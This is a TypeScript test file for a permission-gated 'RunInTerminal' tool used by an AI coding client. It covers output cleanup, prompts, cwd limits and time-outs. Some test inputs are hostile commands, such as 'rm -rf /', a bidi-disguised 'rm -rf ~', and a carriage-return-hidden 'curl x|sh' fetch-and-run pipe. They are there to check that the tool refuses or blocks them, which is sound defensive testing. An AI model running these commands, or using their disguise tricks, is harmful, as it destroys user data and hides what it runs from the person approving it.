import * as assert from 'node:assert/strict';
import { ErrorCode, type ClientToolInvokeResponse } from '../../../../src/protocol';
import { MAX_OUTPUT_CHARS } from '../../../../src/tools/terminal/runInTerminal';
import { TERMINAL_GROUP, TERMINAL_TOOLS } from '../../../../src/tools/terminal/group';
import { capMiddle, OutputCapture, terminalText } from '../../../../src/tools/terminal/terminalOutput';
import { DispatchHarness } from '../../../support/dispatch-harness';
import { createTempWorkspace, type TempWorkspace } from '../../../support/fake-host';

function value(r: ClientToolInvokeResponse): Record<string, unknown> {
  assert.equal(r.success, true, r.errorMessage);
  const item = r.content[0];
  assert.ok(item && item.type === 'json');
  return item.value as Record<string, unknown>;
}

describe('terminal output', () => {
  it('removes shell-integration marks, colours and carriage-return overwrites', () => {
    const raw = '\u001b]633;C\u0007\u001b[32mok\u001b[0m\r\n10%\r50%\r100%\r\ndone\u0007\r\n';
    assert.equal(terminalText(raw), 'ok\n100%\ndone\n');
  });

  it('keeps the start and the end of long output, with a note of what was left out', () => {
    const capture = new OutputCapture(100);
    for (let i = 0; i < 100; i++) capture.append(`line ${String(i).padStart(3, '0')}\n`);
    const text = capture.text();
    assert.equal(capture.truncated, true);
    assert.ok(text.startsWith('line 000\n'));
    assert.ok(text.endsWith('line 099\n'));
    assert.match(text, /\[… \d+ characters of output omitted …\]/);
    assert.deepEqual(capMiddle('short', 10), { text: 'short', truncated: false });
  });
});

describe('tool RunInTerminal', () => {
  let ws: TempWorkspace;
  let h: DispatchHarness;
  beforeEach(async () => {
    ws = await createTempWorkspace(['ws'], { 'pkg/package.json': '{}', 'file.txt': 'x' });
    h = new DispatchHarness({ host: ws.host, group: TERMINAL_GROUP, tools: TERMINAL_TOOLS });
  });
  afterEach(async () => {
    h.dispose();
    await ws.dispose();
  });

  it('shows the exact command in the prompt and runs it in the workspace folder once allowed', async () => {
    ws.host.answerPrompts('allow');
    ws.host.catalog.commandHandler = async () => ({ exitCode: 0, output: '\u001b]633;C\u0007hello\r\n', truncated: false, timedOut: false, via: 'terminal' });
    const v = value(await h.call('RunInTerminal', { command: 'echo hello && ls -la' }));
    assert.equal(ws.host.prompts[0].message, 'Run `echo hello && ls -la` in the ws folder?');
    assert.match(ws.host.prompts[0].detail, /\n\nCommand: echo hello && ls -la\n\nFolder: \.\n\n/);
    assert.deepEqual(ws.host.catalog.commands[0], { command: 'echo hello && ls -la', cwd: ws.folders[0].path, timeoutMs: 60_000, maxOutputChars: MAX_OUTPUT_CHARS * 2 });
    assert.deepEqual(v, { command: 'echo hello && ls -la', cwd: '.', exitCode: 0, timedOut: false, output: 'hello', ranIn: 'terminal' });
  });

  it('asks about every command: "allow for this session" is never offered', async () => {
    ws.host.answerPrompts('allowSession');
    await h.call('RunInTerminal', { command: 'true' });
    await h.call('RunInTerminal', { command: 'true' });
    assert.equal(ws.host.prompts.length, 2);
    assert.equal(ws.host.prompts[0].offerAllowSession, false);
  });

  it('a deny runs nothing', async () => {
    ws.host.answerPrompts('deny');
    assert.equal((await h.call('RunInTerminal', { command: 'rm -rf /' })).errorCode, ErrorCode.PermissionDenied);
    assert.equal(ws.host.catalog.commands.length, 0);
  });

  it('a cancel while the prompt is open runs nothing', async () => {
    ws.host.holdPrompts();
    const id = h.invoke('RunInTerminal', { command: 'touch marker' });
    await ws.host.nextPrompt();
    assert.equal(h.progress(id)[0]?.status, 'awaiting-permission');
    h.dispatcher.handleCancel({ type: 'clientToolCancel', requestId: id });
    assert.equal((await h.response(id)).errorCode, ErrorCode.Cancelled);
    assert.equal(ws.host.catalog.commands.length, 0);
  });

  it('runs in a sub-folder given as cwd, and refuses a cwd outside the workspace or a file before asking', async () => {
    ws.host.answerPrompts('allow');
    const v = value(await h.call('RunInTerminal', { command: 'npm test', cwd: 'pkg', timeoutSeconds: 600 }));
    assert.equal(v.cwd, 'pkg');
    assert.equal(ws.host.catalog.commands[0].cwd, ws.file('pkg'));
    assert.equal(ws.host.catalog.commands[0].timeoutMs, 600_000);
    assert.equal(ws.host.prompts[0].message, 'Run `npm test` in pkg?');
    assert.equal((await h.call('RunInTerminal', { command: 'ls', cwd: '..' })).errorCode, ErrorCode.PathOutsideWorkspace);
    assert.equal((await h.call('RunInTerminal', { command: 'ls', cwd: 'file.txt' })).errorCode, ErrorCode.InvalidArguments);
    assert.equal((await h.call('RunInTerminal', { command: 'ls', timeoutSeconds: 601 })).errorCode, ErrorCode.InvalidArguments);
    assert.equal(ws.host.prompts.length, 1);
  });

  it('names a command holding backticks in a longer code span, so the chat shows it whole', async () => {
    ws.host.answerPrompts('deny');
    await h.call('RunInTerminal', { command: 'echo `date` ``x``' });
    assert.equal(ws.host.prompts[0].message, 'Run ``` echo `date` ``x`` ``` in the ws folder?');
  });

  it('refuses commands with invisible or bidi characters that could disguise them', async () => {
    // A carriage return would let `curl x|sh #\r$ echo hi` show only its harmless end in a terminal.
    for (const command of ['echo safe\u202e;rm -rf ~', 'ls\u200b', 'a\u001b[2Jb', 'curl x|sh #\r$ echo hi', 'make\r\nrm x', '   ']) {
      assert.equal((await h.call('RunInTerminal', { command })).errorCode, ErrorCode.InvalidArguments, JSON.stringify(command));
    }
    assert.equal(ws.host.prompts.length, 0);
  });

  it('shows a multi-line command in full in the prompt detail, as one value: its line breaks as ⏎', async () => {
    ws.host.answerPrompts('deny');
    await h.call('RunInTerminal', { command: 'cd pkg\nnpm ci\nnpm test' });
    assert.equal(ws.host.prompts[0].message, 'Run this 3-line command in the ws folder?');
    assert.match(ws.host.prompts[0].detail, /\n\nCommand: cd pkg⏎npm ci⏎npm test\n\n/);
  });

  it('reports a time-out and caps long output', async () => {
    ws.host.answerPrompts('allow');
    ws.host.catalog.commandHandler = async () => ({ output: 'x'.repeat(MAX_OUTPUT_CHARS * 2), truncated: true, timedOut: true, via: 'process' });
    const v = value(await h.call('RunInTerminal', { command: 'sleep 999', timeoutSeconds: 5 }));
    assert.equal(v.timedOut, true);
    assert.equal(v.exitCode, null);
    assert.equal(v.outputTruncated, true);
    assert.ok(String(v.output).length < MAX_OUTPUT_CHARS + 100);
    assert.match(String(v.message), /5 s time limit/);
  });

  it('says when the user stopped the command, and when it ended by a signal, rather than leaving a bare null', async () => {
    ws.host.answerPrompts('allow');
    ws.host.catalog.commandHandler = async () => ({ output: 'partial output', truncated: false, timedOut: false, stopped: true, via: 'terminal' });
    const v = value(await h.call('RunInTerminal', { command: 'make' }));
    assert.deepEqual([v.exitCode, v.timedOut, v.stopped, v.output], [null, false, true, 'partial output']);
    assert.match(String(v.message), /The user stopped the command before it finished/);
    // A program that traps Ctrl+C and exits with its own code: the code, and that it was stopped.
    ws.host.catalog.commandHandler = async () => ({ exitCode: 2, output: '', truncated: false, timedOut: false, stopped: true, via: 'terminal' });
    const trapped = value(await h.call('RunInTerminal', { command: 'make' }));
    assert.deepEqual([trapped.exitCode, trapped.stopped], [2, true]);
    ws.host.catalog.commandHandler = async () => ({ output: '', truncated: false, timedOut: false, via: 'terminal' });
    const killed = value(await h.call('RunInTerminal', { command: 'make' }));
    assert.equal(killed.stopped, undefined);
    assert.match(String(killed.message), /ended by a signal without an exit code/);
  });

  it('is off in restricted mode', async () => {
    h.registry.setWorkspaceTrusted(false);
    assert.equal((await h.call('RunInTerminal', { command: 'ls' })).errorCode, ErrorCode.WorkspaceUntrusted);
    assert.equal(h.registry.definitions()[0].tools.length, 0, 'not offered to the model either');
  });
});
